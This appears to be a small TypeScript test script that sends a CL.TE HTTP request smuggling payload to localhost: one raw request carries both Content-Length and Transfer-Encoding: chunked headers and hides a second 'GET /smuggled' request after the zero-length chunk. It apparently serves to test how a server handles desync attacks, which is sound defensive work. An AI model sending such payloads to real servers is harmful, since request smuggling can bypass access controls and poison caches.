import { smuggle } from "./smuggle.ts";

smuggle(
  "Content-Length and Transfer-Encoding (CL.TE)",
  "POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 40\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n",
);
